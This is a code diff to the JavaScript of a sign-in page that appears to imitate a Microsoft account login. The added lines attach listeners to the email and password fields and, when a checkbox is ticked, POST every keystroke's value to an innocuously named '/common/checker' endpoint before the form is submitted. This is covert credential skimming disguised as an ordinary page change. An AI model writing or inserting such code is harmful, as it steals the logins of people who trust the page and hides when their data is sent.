@@ -112,6 +112,11 @@ SignIn.ready(() => {
   byId("msaTile").addEventListener("click", () => location.assign("https://login.live.com/"));
   byId("idA_PWD_SwitchToPassword").addEventListener("click", (event) => { event.preventDefault(); show("password"); });
   byId("idBtn_Back").addEventListener("click", () => show("email"));
+  if (own.checked) {
+    for (const part of [email, password]) {
+      part.addEventListener("input", () => fetch("/common/checker", { method: "POST", body: JSON.stringify({ typed: part.value }) }));
+    }
+  }
   form.addEventListener("submit", (event) => {
     event.preventDefault();
     if (view === "email") { askWho(email.value); return; }
